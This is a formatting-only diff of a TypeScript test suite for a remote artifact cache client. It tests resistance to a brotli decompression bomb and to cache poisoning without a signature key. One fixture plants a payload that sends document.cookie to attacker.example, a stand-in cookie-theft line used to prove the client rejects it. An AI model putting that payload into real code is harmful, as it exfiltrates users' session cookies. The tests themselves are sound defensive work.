@@ -40,10 +40,20 @@ beforeAll(() => {
  * garbage collector, so several in a row may add up before it runs: the bound asserted is per
  * download, and the bomb cases make one.
  */
-async function hostile(mode: string, gets: number, extra: Record<string, unknown> = {}): Promise<{ run: ClientRun; requests: number }> {
+async function hostile(
+  mode: string,
+  gets: number,
+  extra: Record<string, unknown> = {},
+): Promise<{ run: ClientRun; requests: number }> {
   const server = await startHostileServer({ mode, namespace: NAMESPACE, key: KEY, ...extra });
   try {
-    const run = (await runHostileClient({ url: server.url, namespace: NAMESPACE, key: KEY, gets, remote: { readOnly: true, maxArtifactSize: LIMIT } })) as ClientRun;
+    const run = (await runHostileClient({
+      url: server.url,
+      namespace: NAMESPACE,
+      key: KEY,
+      gets,
+      remote: { readOnly: true, maxArtifactSize: LIMIT },
+    })) as ClientRun;
     return { run, requests: server.stats.requests };
   } finally {
     await server.close();
@@ -62,7 +72,9 @@ describe('6: brotli bomb', () => {
     expectBounded(run);
     // Refused from the header alone: nothing near the limit was allocated.
     expect(run.maxRssBytes! - run.baselineRssBytes!).toBeLessThan(SLACK);
-    expect(run.warnings!.join('\n')).toMatch(/failed verification \(declares 1000000000 bytes, over remote\.maxArtifactSize/);
+    expect(run.warnings!.join('\n')).toMatch(
+      /failed verification \(declares 1000000000 bytes, over remote\.maxArtifactSize/,
+    );
     expect(run.warnings).toHaveLength(1);
   });
 
@@ -111,7 +123,10 @@ describe('8: poisoning without a signature key', () => {
         }
         const entry = store.get(id);
         if (!entry) res.writeHead(404).end();
-        else res.writeHead(200, entry.tag ? { 'x-artifact-tag': entry.tag } : {}).end(req.method === 'HEAD' ? undefined : entry.body);
+        else
+          res
+            .writeHead(200, entry.tag ? { 'x-artifact-tag': entry.tag } : {})
+            .end(req.method === 'HEAD' ? undefined : entry.body);
       });
     });
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
@@ -125,7 +140,9 @@ describe('8: poisoning without a signature key', () => {
   });
 
   const honest = Buffer.from(JSON.stringify({ v: 1, result: { code: 'export const answer = 42;' } }));
-  const planted = Buffer.from(JSON.stringify({ v: 1, result: { code: 'fetch("https://attacker.example/?" + document.cookie);' } }));
+  const planted = Buffer.from(
+    JSON.stringify({ v: 1, result: { code: 'fetch("https://attacker.example/?" + document.cookie);' } }),
+  );
 
   /** A token holder downloads nothing, signs nothing: re-encodes planted code with a valid checksum and uploads it. */
   async function plant(namespace: string, key: string, tag?: (id: string, body: Buffer) => string): Promise<void> {
@@ -139,7 +156,9 @@ describe('8: poisoning without a signature key', () => {
     const b = createRemoteTier({ url, token: 't', logger });
     await Promise.all([a.close(), b.close()]);
     expect(warnings).toHaveLength(1);
-    expect(warnings[0]).toMatch(/no signature key: anyone holding a token .* check results .* transform results: those are never taken from it without a signature/);
+    expect(warnings[0]).toMatch(
+      /no signature key: anyone holding a token .* check results .* transform results: those are never taken from it without a signature/,
+    );
     const readOnly = createRemoteTier({ url: `${url}/elsewhere`, token: 't', readOnly: true, logger });
     await readOnly.close();
     expect(warnings).toHaveLength(1);
